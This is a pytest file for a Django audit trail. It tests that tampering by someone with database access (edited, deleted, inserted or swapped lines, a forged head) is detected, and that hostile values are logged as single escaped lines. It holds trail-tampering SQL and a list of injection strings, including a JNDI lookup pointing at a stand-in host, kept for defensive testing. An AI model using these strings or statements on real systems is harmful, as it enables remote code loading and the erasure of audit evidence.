"""Section E: whoever can write to the database still cannot change the trail unseen.

Source: design/attacks.md E01 to E04.
"""

import hashlib
import logging
from collections.abc import Callable, Iterator
from contextlib import suppress
from datetime import UTC
from logging.config import dictConfigClass

import pytest
from django.contrib.sessions.models import Session
from django.db import DatabaseError, connection, transaction

from config.logging import make_logging
from pont.audit import guards, operations
from pont.audit.models import AppendOnly, AuditHead, AuditLine, Outcome, SealedDetail
from pont.audit.operations import record, record_refusal
from pont.audit.queries import Break, Reason, find_head, find_lines, verify
from pont.policy.acts import Act
from tests.audit.people import BRYN, NOON, OLWEN

pytestmark = pytest.mark.django_db

COLUMNS = (
    "at, act, outcome, account, username, name, organisation, ip, object_type, object_id, "
    "facts, sealed_sha256, previous_mac, mac"
)


def execute(statement: str, *parameters: object) -> None:
    with connection.cursor() as cursor:
        cursor.execute(statement, parameters)


@pytest.fixture
def trail() -> None:
    """Six lines."""
    for number in range(6):
        record(act="send", actor=BRYN, at=NOON, object_type="transfer", object_id=str(number))


@pytest.fixture
def attacker(trail: None) -> Iterator[Callable[..., None]]:
    """Somebody with the password of the database, who has taken the triggers off."""
    guards.execute(connection, guards.REMOVE)
    yield execute
    guards.execute(connection, guards.INSTALL)


def insert_copy(sequence: int, *, of: int) -> None:
    execute(
        f"INSERT INTO audit_auditline (sequence, {COLUMNS}) "  # noqa: S608
        f"SELECT %s, {COLUMNS} FROM audit_auditline WHERE sequence = %s",
        sequence,
        of,
    )


def shift(first: int, *, by: int) -> None:
    """Renumber the lines from `first` on."""
    for sign, distance in ((-1, 0), (-1, by)):
        execute(
            "UPDATE audit_auditline SET sequence = %s * sequence + %s "
            "WHERE sequence >= %s OR sequence < 0",
            sign,
            distance,
            first,
        )


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("at", "2026-03-01 12:00:00+00:00"),
        ("act", "recall"),
        ("outcome", "refused"),
        ("account", str(OLWEN.account)),
        ("username", "Olwen"),
        ("name", "Somebody Else"),
        ("organisation", "6812317"),
        ("ip", "203.0.113.7"),
        ("object_type", "account"),
        ("object_id", "17"),
        ("facts", '{"pupils": 1}'),
        ("sealed_sha256", "0" * 64),
        ("previous_mac", "0" * 64),
        ("mac", "0" * 64),
    ],
)
def test_e01_an_edited_column_is_found(
    attacker: Callable[..., None], column: str, value: str
) -> None:
    attacker(f"UPDATE audit_auditline SET {column} = %s WHERE sequence = 3", value)  # noqa: S608

    assert verify() == Break(3, Reason.ALTERED)


@pytest.mark.parametrize("sequence", [1, 3])
def test_e01_a_deleted_line_is_found(attacker: Callable[..., None], sequence: int) -> None:
    attacker("DELETE FROM audit_auditline WHERE sequence = %s", sequence)

    assert verify() == Break(sequence, Reason.DELETED)


def test_e01_a_deleted_line_is_found_when_the_rest_is_renumbered(
    attacker: Callable[..., None],
) -> None:
    attacker("DELETE FROM audit_auditline WHERE sequence = 3")
    shift(4, by=-1)

    assert verify() == Break(3, Reason.DELETED)


def test_e01_an_inserted_line_is_found(attacker: Callable[..., None]) -> None:
    shift(3, by=1)
    insert_copy(3, of=2)
    attacker("UPDATE audit_auditline SET act = 'recall' WHERE sequence = 3")

    assert verify() == Break(3, Reason.INSERTED)


def test_e01_a_line_added_at_the_end_is_found(attacker: Callable[..., None]) -> None:
    insert_copy(7, of=6)

    assert verify() == Break(7, Reason.SWAPPED)


def test_e01_an_invented_line_at_the_end_is_found(attacker: Callable[..., None]) -> None:
    insert_copy(7, of=6)
    attacker(
        "UPDATE audit_auditline SET act = 'recall', previous_mac = %s WHERE sequence = 7",
        find_mac(6),
    )

    assert verify() == Break(7, Reason.ALTERED)


def test_e01_two_swapped_lines_are_found(attacker: Callable[..., None]) -> None:
    for old, new in ((2, -1), (4, 2), (-1, 4)):
        attacker("UPDATE audit_auditline SET sequence = %s WHERE sequence = %s", new, old)

    assert verify() == Break(2, Reason.SWAPPED)


def test_e01_a_line_hashed_anew_without_the_key_is_found(attacker: Callable[..., None]) -> None:
    forged = hashlib.sha256(b"edited").hexdigest()
    attacker("UPDATE audit_auditline SET act = 'x', mac = %s WHERE sequence = 3", forged)
    attacker("UPDATE audit_auditline SET previous_mac = %s WHERE sequence = 4", forged)

    assert verify() == Break(3, Reason.ALTERED)


def test_e01_a_cut_tail_is_found(attacker: Callable[..., None]) -> None:
    attacker("DELETE FROM audit_auditline WHERE sequence > 4")

    assert verify() == Break(5, Reason.TAIL_CUT)


def test_e01_a_tail_cut_with_its_head_is_found_by_the_head_noted_outside(
    attacker: Callable[..., None],
) -> None:
    noted = find_head()
    assert noted is not None
    attacker("DELETE FROM audit_auditline WHERE sequence > 4")
    attacker("UPDATE audit_audithead SET sequence = 4, mac = %s", find_mac(4))

    assert verify() is None
    assert verify(noted=[noted]) == Break(5, Reason.TAIL_CUT)


def test_e01_an_old_database_put_back_and_written_on_is_found_by_the_head_noted_outside(
    attacker: Callable[..., None],
) -> None:
    noted = find_head()
    assert noted is not None
    attacker("DELETE FROM audit_auditline WHERE sequence > 4")
    attacker("UPDATE audit_audithead SET sequence = 4, mac = %s", find_mac(4))
    for _ in range(4):
        record(act="expire", actor=OLWEN, at=NOON)

    assert verify() is None
    assert verify(noted=[noted]) == Break(6, Reason.HISTORY_REPLACED)


def test_e01_lines_of_another_history_are_found(attacker: Callable[..., None]) -> None:
    # Line 5 of a trail that went another way after line 4, bearing a true hash.
    attacker("UPDATE audit_audithead SET sequence = 4, mac = %s", "1" * 64)
    attacker("DELETE FROM audit_auditline WHERE sequence > 4")
    record(act="recall", actor=BRYN, at=NOON)

    assert verify() == Break(5, Reason.DETACHED)


def test_e01_a_lost_head_is_found_and_stops_every_act(attacker: Callable[..., None]) -> None:
    attacker("DELETE FROM audit_audithead")

    assert verify() == Break(6, Reason.HEAD_LOST)
    with pytest.raises(DatabaseError), transaction.atomic():
        record(act="send", actor=BRYN, at=NOON)


def test_e01_an_altered_head_is_found(attacker: Callable[..., None]) -> None:
    attacker("UPDATE audit_audithead SET mac = %s", "1" * 64)

    assert verify() == Break(6, Reason.HEAD_ALTERED)


def test_e01_a_head_set_back_is_found(attacker: Callable[..., None]) -> None:
    attacker("UPDATE audit_audithead SET sequence = 4, mac = %s", find_mac(4))

    assert verify() == Break(5, Reason.INSERTED)


def test_e01_an_altered_sealed_detail_is_found() -> None:
    record(act="search", actor=OLWEN, at=NOON, sealed=b"ciphertext")
    SealedDetail.objects.update(content=b"ciphertexT")

    assert verify() == Break(1, Reason.DETAIL_ALTERED)


def find_mac(sequence: int) -> str:
    return str(AuditLine.objects.get(sequence=sequence).mac)


HOSTILE = (
    "two\nlines",
    "return\r\nand line",
    "\x1b[2J\x1b[31mred",
    "nul\x00byte",
    "${jndi:ldap://evil.example/a}",
    "left\u202eright",
    "line\u2028separator",
    "\ud800 alone",
    "\x9b31m",
)


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_e02_a_hostile_value_is_one_escaped_line(text: str) -> None:
    actor = type(BRYN)(
        account=None,
        username=text,
        name=text,
        organisation="",
        organisation_name="",
        la="",
        roles=frozenset(),
    )

    record(
        act="sign-in",
        actor=actor,
        at=NOON,
        object_type=text,
        object_id=text,
        ip=text,
        outcome=Outcome.FAILED,
        facts={"user name": text, text: 1},
    )

    line = AuditLine.objects.get()
    values = [line.username, line.name, line.object_type, line.object_id, line.ip, *line.facts]
    assert all(value.isprintable() for value in [*values, line.facts["user name"]])
    assert verify() is None


def test_e02_what_is_printable_stays_as_it_is() -> None:
    record(act="send", actor=BRYN, at=NOON, facts={"school": "Ysgol Tŷ Ŵr – ‘Caerdydd’ 🏫"})

    assert AuditLine.objects.get().facts == {"school": "Ysgol Tŷ Ŵr – ‘Caerdydd’ 🏫"}


def test_e02_a_megabyte_is_cut() -> None:
    record(act="sign-in", actor=BRYN, at=NOON, facts={"user name": "\n" * 1_000_000})

    assert len(AuditLine.objects.get().facts["user name"]) == 500


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_e02_a_hostile_value_is_one_line_of_the_log(text: str) -> None:
    formatter = dictConfigClass(make_logging("INFO")).configure_formatter(
        make_logging("INFO")["formatters"]["json"]
    )
    entry = logging.LogRecord("pont", logging.INFO, "", 0, "from %s", (text,), None)

    written = formatter.format(entry)

    assert written.isascii()
    assert written.isprintable()


@pytest.mark.parametrize("act", Act)
def test_e03_an_act_done_and_refused_leaves_one_line_each(act: Act) -> None:
    place = {"object_type": "transfer", "object_id": "41f0", "ip": "203.0.113.7"}
    record(act=act, actor=BRYN, at=NOON, **place)
    record_refusal(act=act, actor=OLWEN, at=NOON, **place)

    refused, done = find_lines(act=act)
    assert (done.outcome, done.username, done.organisation) == ("done", "Bryn", "6812045")
    assert (refused.outcome, refused.username) == ("refused", "Olwen")
    assert done.at.utcoffset() == NOON.astimezone(UTC).utcoffset()
    assert (done.object_id, done.ip) == ("41f0", "203.0.113.7")


FORBIDDEN: dict[str, Callable[[], object]] = {
    "save": lambda: AuditLine.objects.get(sequence=1).save(),
    "save again": lambda: AuditLine.objects.get(sequence=1).save(force_update=True),
    "delete": lambda: AuditLine.objects.get(sequence=1).delete(),
    "create": lambda: AuditLine.objects.create(sequence=9, at=NOON, act="x"),
    "update": lambda: AuditLine.objects.filter(sequence=1).update(act="x"),
    "delete many": lambda: AuditLine.objects.all().delete(),
    "bulk create": lambda: AuditLine.objects.bulk_create([AuditLine(sequence=9, at=NOON)]),
    "bulk update": lambda: AuditLine.objects.bulk_update(AuditLine.objects.all(), ["act"]),
    "get or create": lambda: AuditLine.objects.get_or_create(sequence=9),
    "update or create": lambda: AuditLine.objects.update_or_create(sequence=1),
}


@pytest.mark.parametrize("way", FORBIDDEN)
def test_e04_no_code_of_ours_can_change_a_line(trail: None, way: str) -> None:
    with pytest.raises(AppendOnly):
        FORBIDDEN[way]()

    assert verify() is None


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_auditline SET act = 'x'",
        "UPDATE audit_auditline SET act = 'x' WHERE sequence = 1",
        "DELETE FROM audit_auditline",
        "DELETE FROM audit_auditline WHERE sequence = 6",
        pytest.param(
            "TRUNCATE audit_auditline CASCADE",
            marks=pytest.mark.skipif(connection.vendor == "sqlite", reason="SQLite has none"),
        ),
    ],
)
def test_e04_the_database_refuses_to_change_a_line(trail: None, statement: str) -> None:
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        execute(statement)

    assert verify() is None


def test_e04_when_the_line_cannot_be_written_the_act_fails(
    trail: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: object, **kwargs: object) -> str:
        raise OSError("no key")

    monkeypatch.setattr(operations, "compute_mac", fail)

    with pytest.raises(OSError, match="no key"), transaction.atomic():
        act()
    assert not Session.objects.exists()


def test_e04_when_the_database_refuses_the_line_the_act_fails(trail: None) -> None:
    AuditHead.objects.update(sequence=2)

    with pytest.raises(DatabaseError), transaction.atomic():
        act()
    assert not Session.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_e04_the_act_fails_even_if_the_failure_is_caught() -> None:
    record(act="send", actor=BRYN, at=NOON)
    AuditHead.objects.update(sequence=0)

    with transaction.atomic():
        act(catching=(DatabaseError,))
    assert not Session.objects.exists()


def act(*, catching: tuple[type[Exception], ...] = ()) -> None:
    """Do something, then record it."""
    Session.objects.create(session_key="act", session_data="", expire_date=NOON)
    with suppress(*catching):
        record(act="send", actor=BRYN, at=NOON)
